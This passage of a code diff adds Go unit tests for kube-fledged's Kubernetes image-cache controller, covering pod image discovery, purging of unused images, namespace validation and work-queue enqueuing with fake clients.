+			Status:     kubefledgedv1alpha1.ImageCacheStatus{PodImages: lastDiscovered},
+		}
+		for _, namespace := range test.namespaces {
+			imageCache.Spec.CacheSpec = append(imageCache.Spec.CacheSpec, kubefledgedv1alpha1.CacheSpecImages{ImagesFromPods: &kubefledgedv1alpha1.PodImagesSource{Namespace: namespace}})
+		}
+		actual := controller.discoverPodImages(imageCache)
+		for k := range actual {
+			actual[k].DiscoveredTime = metav1.Time{}
+		}
+		if !reflect.DeepEqual(actual, test.expected) {
+			t.Errorf("Test: %s failed: expected %+v, actual %+v", test.name, test.expected, actual)
+		}
+	}
+}
+
+func TestUnusedPodImages(t *testing.T) {
+	imageCache := func(namespace string) *kubefledgedv1alpha1.ImageCache {
+		return &kubefledgedv1alpha1.ImageCache{
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec:     []kubefledgedv1alpha1.CacheSpecImages{{ImagesFromPods: &kubefledgedv1alpha1.PodImagesSource{Namespace: namespace}}},
+				ExcludeImages: []string{"*:debug"},
+			},
+			Status: kubefledgedv1alpha1.ImageCacheStatus{
+				PodImages: []kubefledgedv1alpha1.DiscoveredPodImages{{Namespace: "shop", Images: []string{"api:debug", "api:v1", "nginx:1.21"}}},
+			},
+		}
+	}
+	tests := []struct {
+		name          string
+		imageCache    *kubefledgedv1alpha1.ImageCache
+		oldImageCache *kubefledgedv1alpha1.ImageCache
+		images        []string
+		expected      []string
+	}{
+		{
+			name:       "#1: Images no longer used by pods",
+			imageCache: imageCache("shop"),
+			images:     []string{"api:v2", "nginx:1.21"},
+			expected:   []string{"api:v1"},
+		},
+		{
+			name:       "#2: All images still used by pods",
+			imageCache: imageCache("shop"),
+			images:     []string{"api:v1", "nginx:1.21"},
+		},
+		{
+			name:          "#3: Images of namespace of the old image cache",
+			imageCache:    imageCache("data"),
+			oldImageCache: imageCache("shop"),
+			images:        []string{"postgres:14"},
+			expected:      []string{"api:v1", "nginx:1.21"},
+		},
+		{
+			name:       "#4: Images of namespace not discovered",
+			imageCache: imageCache("data"),
+			images:     []string{"postgres:14"},
+		},
+	}
+	for _, test := range tests {
+		actual := unusedPodImages(test.imageCache, test.oldImageCache, 0, test.images)
+		if !reflect.DeepEqual(actual, test.expected) {
+			t.Errorf("Test: %s failed: expected %+v, actual %+v", test.name, test.expected, actual)
+		}
+	}
+}
+
+func TestValidateImagesFromPods(t *testing.T) {
+	tests := []struct {
+		name         string
+		namespace    string
+		anyNamespace bool
+		expectErr    bool
+	}{
+		{name: "#1: Pods of the namespace of the image cache", namespace: fledgedNameSpace},
+		{name: "#2: Pods of another namespace", namespace: "shop", expectErr: true},
+		{name: "#3: Pods of another namespace allowed", namespace: "shop", anyNamespace: true},
+	}
+	for _, test := range tests {
+		controller, _, _ := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		controller.imagesFromPodsAnyNamespace = test.anyNamespace
+		imageCache := &kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: fledgedNameSpace},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{
+				{Images: []string{"redis"}},
+				{ImagesFromPods: &kubefledgedv1alpha1.PodImagesSource{Namespace: test.namespace}},
+			}},
+		}
+		if err := controller.validateImagesFromPods(imageCache); (err != nil) != test.expectErr {
+			t.Errorf("Test: %s failed: expectErr=%t, actualErr=%v", test.name, test.expectErr, err)
+		}
+	}
+}
+
+func TestPodNeedingImage(t *testing.T) {
+	pod := func(name, namespace string, phase corev1.PodPhase, image string) *corev1.Pod {
+		return &corev1.Pod{
+			ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: namespace},
+			Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: image}}},
+			Status:     corev1.PodStatus{Phase: phase},
+		}
+	}
+	tests := []struct {
+		name      string
+		watchPods bool
+		image     string
+		expected  string
+	}{
+		{name: "#1: Image of a pending pod of another namespace", watchPods: true, image: "api:v1", expected: "data/api"},
+		{name: "#2: Image of a running pod", watchPods: true, image: "nginx:1.21", expected: "shop/web"},
+		{name: "#3: Image only of a succeeded pod", watchPods: true, image: "migrate:v2"},
+		{name: "#4: Image of no pod", watchPods: true, image: "redis"},
+		{name: "#5: Pods not watched", image: "redis", expected: "unknown (pods are not watched)"},
+	}
+	for _, test := range tests {
+		fakekubeclientset := &fakeclientset.Clientset{}
+		controller, _, _ := newTestController(fakekubeclientset, &kubefledgedclientsetfake.Clientset{})
+		if test.watchPods {
+			podInformer := kubeinformers.NewSharedInformerFactory(fakekubeclientset, noResyncPeriodFunc()).Core().V1().Pods()
+			podInformer.Informer().GetIndexer().Add(pod("web", "shop", corev1.PodRunning, "nginx:1.21"))
+			podInformer.Informer().GetIndexer().Add(pod("api", "data", corev1.PodPending, "api:v1"))
+			podInformer.Informer().GetIndexer().Add(pod("migrate", "shop", corev1.PodSucceeded, "migrate:v2"))
+			controller.podIndexer = podInformer.Informer().GetIndexer()
+		}
+		if actual := controller.podNeedingImage(test.image); actual != test.expected {
+			t.Errorf("Test: %s failed: expected %q, actual %q", test.name, test.expected, actual)
+		}
+	}
+}
+
+func TestImagePulled(t *testing.T) {
+	statuses := []kubefledgedv1alpha1.ImageNodeStatus{
+		{Image: "nginx:1.21", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached, Pulled: true, Aliases: []string{"nginx@sha256:aaa"}},
+		{Image: "api:v1", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+		{Image: "redis", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseDeleted, Pulled: true},
+	}
+	tests := []struct {
+		name     string
+		image    string
+		node     string
+		expected bool
+	}{
+		{name: "#1: Image pulled by kube-fledged", image: "nginx:1.21", node: "bar", expected: true},
+		{name: "#2: Alias of an image pulled by kube-fledged", image: "nginx@sha256:aaa", node: "bar", expected: true},
+		{name: "#3: Image already present on the node", image: "api:v1", node: "bar"},
+		{name: "#4: Image deleted from the node", image: "redis", node: "bar"},
+		{name: "#5: Image on another node", image: "nginx:1.21", node: "baz"},
+	}
+	for _, test := range tests {
+		if actual := imagePulled(statuses, test.image, test.node); actual != test.expected {
+			t.Errorf("Test: %s failed: expected %t, actual %t", test.name, test.expected, actual)
+		}
+	}
+}
+
+func TestPodImagePurgeable(t *testing.T) {
+	imageCache := func(purgeOnly bool) *kubefledgedv1alpha1.ImageCache {
+		return &kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: "shop"},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{{Images: []string{"redis"}, ImagesFromPods: &kubefledgedv1alpha1.PodImagesSource{Namespace: "shop"}}},
+				PurgeOnly: purgeOnly,
+			},
+			Status: kubefledgedv1alpha1.ImageCacheStatus{Images: []kubefledgedv1alpha1.ImageNodeStatus{
+				{Image: "nginx:1.21", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached, Pulled: true},
+				{Image: "api:v1", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached, Pulled: true},
+				{Image: "envoy:1.20", Node: "bar", Phase: kubefledgedv1alpha1.ImagePhaseCached},
+			}},
+		}
+	}
+	tests := []struct {
+		name       string
+		imageCache *kubefledgedv1alpha1.ImageCache
+		image      string
+		expected   bool
+	}{
+		{name: "#1: Listed image", imageCache: imageCache(false), image: "redis", expected: true},
+		{name: "#2: Pod image pulled by kube-fledged and not needed", imageCache: imageCache(false), image: "nginx:1.21", expected: true},
+		{name: "#3: Pod image already present on the node", imageCache: imageCache(false), image: "envoy:1.20"},
+		{name: "#4: Pod image needed by a pending pod", imageCache: imageCache(false), image: "api:v1"},
+		{name: "#5: Pod image of a purge-only image cache", imageCache: imageCache(true), image: "envoy:1.20", expected: true},
+	}
+	fakekubeclientset := &fakeclientset.Clientset{}
+	controller, _, _ := newTestController(fakekubeclientset, &kubefledgedclientsetfake.Clientset{})
+	podInformer := kubeinformers.NewSharedInformerFactory(fakekubeclientset, noResyncPeriodFunc()).Core().V1().Pods()
+	podInformer.Informer().GetIndexer().Add(&corev1.Pod{
+		ObjectMeta: metav1.ObjectMeta{Name: "api", Namespace: "data"},
+		Spec:       corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "api:v1"}}},
+		Status:     corev1.PodStatus{Phase: corev1.PodPending},
+	})
+	controller.podIndexer = podInformer.Informer().GetIndexer()
+	for _, test := range tests {
+		if actual := controller.podImagePurgeable(test.imageCache, 0, test.image, &node); actual != test.expected {
+			t.Errorf("Test: %s failed: expected %t, actual %t", test.name, test.expected, actual)
+		}
+	}
+}
+
+func TestEnqueueImageCachesOfPod(t *testing.T) {
+	pod := func(namespace string, phase corev1.PodPhase, image string) *corev1.Pod {
+		return &corev1.Pod{
+			ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: namespace},
+			Spec:       corev1.PodSpec{Containers: []corev1.Container{{Image: image}}},
+			Status:     corev1.PodStatus{Phase: phase},
+		}
+	}
+	succeeded := kubefledgedv1alpha1.ImageCacheStatus{
+		Status:    kubefledgedv1alpha1.ImageCacheActionStatusSucceeded,
+		PodImages: []kubefledgedv1alpha1.DiscoveredPodImages{{Namespace: "shop", Images: []string{"nginx:1.21"}}},
+	}
+	tests := []struct {
+		name           string
+		pod            *corev1.Pod
+		status         kubefledgedv1alpha1.ImageCacheStatus
+		workqueueItems int
+	}{
+		{name: "#1: Pod runs new image", pod: pod("shop", corev1.PodRunning, "nginx:1.22"), status: succeeded, workqueueItems: 1},
+		{name: "#2: Pod runs discovered image", pod: pod("shop", corev1.PodRunning, "nginx:1.21"), status: succeeded},
+		{name: "#3: Pod not running", pod: pod("shop", corev1.PodPending, "nginx:1.22"), status: succeeded},
+		{name: "#4: Pod of other namespace", pod: pod("data", corev1.PodRunning, "postgres:14"), status: succeeded},
+		{
+			name:   "#5: Image cache under processing",
+			pod:    pod("shop", corev1.PodRunning, "nginx:1.22"),
+			status: kubefledgedv1alpha1.ImageCacheStatus{Status: kubefledgedv1alpha1.ImageCacheActionStatusProcessing},
+		},
+	}
+	for _, test := range tests {
+		controller, _, imagecacheInformer := newTestController(&fakeclientset.Clientset{}, &kubefledgedclientsetfake.Clientset{})
+		imagecacheInformer.Informer().GetIndexer().Add(&kubefledgedv1alpha1.ImageCache{
+			ObjectMeta: metav1.ObjectMeta{Name: "foo", Namespace: fledgedNameSpace},
+			Spec: kubefledgedv1alpha1.ImageCacheSpec{
+				CacheSpec: []kubefledgedv1alpha1.CacheSpecImages{{ImagesFromPods: &kubefledgedv1alpha1.PodImagesSource{Namespace: "shop"}}},
+			},
+			Status: test.status,
+		})
+		controller.enqueueImageCachesOfPod(test.pod)
+		// Image caches are queued after the delay of the rate limiter
+		queued := controller.workqueue.NumRequeues(images.WorkQueueKey{WorkType: images.ImageCacheRefresh, ObjKey: "kube-fledged/foo"})
+		if queued != test.workqueueItems {
+			t.Errorf("Test: %s failed: expected %d, actual %d", test.name, test.workqueueItems, queued)
 		}
 	}
-	t.Logf("%d tests passed", len(tests))
 }